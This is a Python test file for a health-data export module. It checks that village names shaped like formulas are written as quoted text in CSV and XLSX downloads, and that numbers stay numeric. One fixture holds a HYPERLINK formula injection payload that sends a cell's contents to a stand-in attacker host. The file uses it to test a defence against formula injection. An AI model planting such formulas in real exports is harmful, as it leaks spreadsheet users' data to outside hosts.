"""Exports never hand a spreadsheet a formula (exports.writers): a desa named like a formula is
written as text with a leading "'" in CSV and XLSX, from the command line and from the page's
download button, and numbers (negative ones too) stay numbers."""
from __future__ import annotations

import csv
import io
from io import BytesIO

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import update

import cli
from data_access import schema
from data_access.db import dispose_engines
from data_access.iks import iks_area_table
from domain.wilayah import Scope
from exports.views import iks_page_download, resolve_wilayah, to_csv, to_xlsx
from exports.writers import columns_to_csv
from indicators.columns import Columns

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
FRAME = pd.DataFrame({
    "kode": ["99.01.01.2001", "99.01.01.2002", "99.01.01.2003", "99.01.01.2004", "99.01.01.2005"],
    "nama": [EVIL, "-Desa", "+62 Desa", "@Desa", "\tDesa"],
    "perubahan": [-0.25, 0.5, -3.0, None, 0.0],
    "jumlah": [-3, 4, 0, 7, 1],
})


def test_csv_text_that_starts_a_formula_begins_with_a_quote_and_numbers_are_untouched():
    rows = list(csv.reader(io.StringIO(to_csv(FRAME).decode())))
    assert [r[1] for r in rows[1:]] == ["'" + EVIL, "'-Desa", "'+62 Desa", "'@Desa", "'\tDesa"]
    assert [r[2] for r in rows[1:]] == ["-0.25", "0.5", "-3.0", "", "0.0"]
    assert [r[3] for r in rows[1:]] == ["-3", "4", "0", "7", "1"]
    assert [r[0] for r in rows[1:]] == FRAME["kode"].tolist()  # other text as it was


def test_csv_of_numpy_columns_is_the_frames_csv_byte_for_byte():
    """columns_to_csv (a page's download without a DataFrame) writes what to_csv writes:
    hostile text quoted, floats as numpy prints them, NaN and None empty."""
    columns = Columns(
        kode=np.array(FRAME["kode"].tolist(), dtype=object),
        nama=np.array(FRAME["nama"].tolist(), dtype=object),
        nilai=np.array([0.23749999999999996, 1e-05, 1e16, -0.0, np.nan]),
        jumlah=np.array([-3, 4, 0, 7, 1]),
        bulat=np.array([12, None, 0, -1, 3], dtype=object),
        status=np.array(["baik", None, 'a "b", c', "", "=1+1"], dtype=object),
    )
    # whole numbers with gaps: what tidy_pws writes as Int64
    frame = pd.DataFrame({**columns, "bulat": pd.array([12, None, 0, -1, 3], dtype="Int64")})
    assert columns_to_csv(columns) == to_csv(frame)


def test_xlsx_text_that_starts_a_formula_is_text_and_numbers_are_numbers():
    data = to_xlsx(FRAME, number_formats={"perubahan": "+0.00;-0.00"},
                   keterangan=[("Wilayah", f"{EVIL} (99.01)"), ("Catatan", "#N/A")])
    book = openpyxl.load_workbook(BytesIO(data))
    sheet = book["Data"]
    names = [sheet.cell(row, 2) for row in range(2, 7)]
    assert [c.value for c in names] == ["'" + EVIL, "'-Desa", "'+62 Desa", "'@Desa", "'\tDesa"]
    assert {c.data_type for c in names} == {"s"}
    assert [sheet.cell(row, 3).value for row in range(2, 7)] == [-0.25, 0.5, -3, None, 0]
    assert [sheet.cell(row, 4).value for row in range(2, 7)] == [-3, 4, 0, 7, 1]
    assert {sheet.cell(row, 4).data_type for row in range(2, 7)} == {"n"}
    notes = {r[0].value: r[1] for r in book["Keterangan"].iter_rows()}
    assert notes["Wilayah"].value == f"'{EVIL} (99.01)" and notes["Wilayah"].data_type == "s"
    assert notes["Catatan"].value == "#N/A" and notes["Catatan"].data_type == "s"  # not an error


@pytest.fixture
def hostile(loaded):
    """The sample province with desa A1 named like a formula and desa A2 "-Desa"."""
    with loaded.begin() as conn:
        conn.execute(update(schema.desa).where(schema.desa.c.kode == "99.01.01.2001").values(nama=EVIL))
        conn.execute(update(schema.desa).where(schema.desa.c.kode == "99.01.01.2002").values(nama="-Desa"))
    return loaded


@pytest.fixture
def run_cli(hostile, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", hostile.url.render_as_string(hide_password=False))
    dispose_engines()

    def run(*argv):
        status = cli.main(list(argv))
        capsys.readouterr()
        return status

    yield run
    dispose_engines()


def test_cli_export_writes_hostile_desa_names_as_text(run_cli, tmp_path):
    out = tmp_path / "iks.csv"
    assert run_cli("export", "iks", "--tahun", "2024", "--tingkat", "desa", "--wilayah", "99.01",
                   "--out", str(out)) == 0
    rows = {r["kode"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["99.01.01.2001"]["nama"] == "'" + EVIL
    assert rows["99.01.01.2002"]["nama"] == "'-Desa"
    assert rows["99.01.01.2001"]["jumlah_keluarga"] == "2"
    out = tmp_path / "iks.xlsx"
    assert run_cli("export", "iks", "--tahun", "2024", "--tingkat", "desa", "--wilayah", "99.01",
                   "--out", str(out)) == 0
    sheet = openpyxl.load_workbook(out)["IKS"]
    cells = {sheet.cell(r, 1).value: (sheet.cell(r, 2), sheet.cell(r, 3)) for r in range(2, sheet.max_row + 1)}
    nama, jumlah = cells["99.01.01.2001"]
    assert (nama.value, nama.data_type) == ("'" + EVIL, "s")
    assert (jumlah.value, jumlah.data_type) == (2, "n")
    assert cells["99.01.01.2002"][0].value == "'-Desa"


def test_page_download_writes_hostile_desa_names_as_text(hostile):
    everything = Scope.everything()
    with hostile.connect() as conn:
        pkm = resolve_wilayah(conn, everything, "P01")
        rows, _ = iks_area_table(conn, everything, pkm, 2024)
    _, data = iks_page_download(rows, pkm, 2024, "csv")
    names = {r["kode"]: r["nama"] for r in csv.DictReader(io.StringIO(data.decode()))}
    assert names["99.01.01.2001"] == "'" + EVIL and names["99.01.01.2002"] == "'-Desa"
    _, data = iks_page_download(rows, pkm, 2024, "xlsx")
    sheet = openpyxl.load_workbook(BytesIO(data))["IKS"]
    cells = [sheet.cell(r, 2) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} == {"'" + EVIL, "'-Desa"}
    assert all(c.data_type == "s" for c in cells)
